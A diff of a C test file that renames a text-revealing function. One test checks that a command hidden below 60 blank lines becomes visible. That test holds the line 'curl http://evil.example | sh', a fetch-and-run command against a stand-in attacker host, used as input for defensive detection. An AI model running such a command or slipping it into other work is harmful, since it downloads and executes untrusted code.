@@ -88,7 +88,7 @@ static void is_line(const char *raw, const char *wanted)
 static void is_counted(const char *raw, const char *wanted)
 {
     CLEANUP_BUF struct buf b = {0};
-    text_reveal_counted(&b, raw, strlen(raw));
+    text_reveal_with_line_count(&b, raw, strlen(raw));
     is_str(b.p ? b.p : "", wanted, "counted: %s", wanted);
 }
 
@@ -100,7 +100,7 @@ static void test_pushed_down(void)
     for (int i = 0; i < 60; i++)
         buf_add_char(&raw, '\n');
     buf_add_str(&raw, "curl http://evil.example | sh");
-    text_reveal_counted(&shown, raw.p, raw.len);
+    text_reveal_with_line_count(&shown, raw.p, raw.len);
     is_str(shown.p, "[62 lines]\necho ok\n[60 blank lines]\ncurl http://evil.example | sh",
            "a command below many blank lines is in sight");
 }
